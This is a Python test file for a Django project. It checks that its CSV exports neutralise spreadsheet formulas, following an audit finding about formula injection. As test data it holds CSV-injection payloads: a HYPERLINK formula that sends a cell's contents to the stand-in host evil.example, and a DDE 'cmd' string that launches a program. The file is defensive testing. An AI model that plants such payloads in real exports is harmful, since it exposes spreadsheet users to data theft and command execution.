"""Every CSV the project writes neutralises spreadsheet formulas, through one function.

Audit finding 9: the API's CSV export sent `=HYPERLINK(…)` out raw (the shortlist did not).
"""

import csv
import io
import pathlib

import pytest
from django.urls import reverse

from core.spreadsheet import safe_cell
from tests.factories import AIModelFactory, StatPointFactory, VendorFactory

pytestmark = pytest.mark.django_db

ROOT = pathlib.Path(__file__).resolve().parent.parent
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
FORMULAS = [HOSTILE, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_get_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-3.5", "+86", "1e-3", "文心一言", "", "A=B", "0.8"])
def test_plain_text_and_numbers_stay_as_they_are(text):
    assert safe_cell(text) == text


def test_no_module_writes_csv_around_the_one_function():
    offenders = [
        str(path.relative_to(ROOT))
        for path in ROOT.rglob("*.py")
        if ".venv" not in path.parts
        and "tests" not in path.parts
        and path.name != "spreadsheet.py"
        and ("csv.writer(" in (text := path.read_text()) or "csv.DictWriter(" in text)
    ]
    assert offenders == []


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_neutralised(text: str):
    found = [c for c in cells(text) if "HYPERLINK" in c]
    assert found, "the hostile text is not in the export at all"
    assert all(c.startswith("'") for c in found), found


def test_api_csv_export_neutralises_formulas(client, api_key):
    AIModelFactory(name_en=HOSTILE, vendor=VendorFactory(name_en=HOSTILE))
    for resource in ("models", "vendors"):
        response = client.get(f"/api/v1/export/{resource}.csv", headers={"X-API-Key": api_key[1]})
        assert response.status_code == 200
        assert_neutralised(b"".join(response.streaming_content).decode())


def test_shortlist_csv_neutralises_formulas(client):
    model = AIModelFactory(name_en=HOSTILE)
    client.post(reverse("public:shortlist_toggle"), {"item": f"aimodel:{model.slug}"})
    response = client.get(reverse("public:shortlist_export"))
    assert_neutralised(response.content.decode())


def test_insights_csv_neutralises_formulas(client):
    point = StatPointFactory(label_en=HOSTILE, label_zh=HOSTILE)
    response = client.get(f"/en/insights/{point.series.slug}.csv")
    assert response.status_code == 200
    assert_neutralised(response.content.decode())


def test_admin_export_neutralises_formulas(client, publisher):
    VendorFactory(name_en=HOSTILE)
    client.force_login(publisher)
    response = client.post(
        reverse("admin:directory_vendor_export"),
        {"format": "0", "resource": "0", "vendorresource_name_en": "on", "export_items": []},
    )
    assert response.status_code == 200, response.content[:500]
    assert_neutralised(response.content.decode())
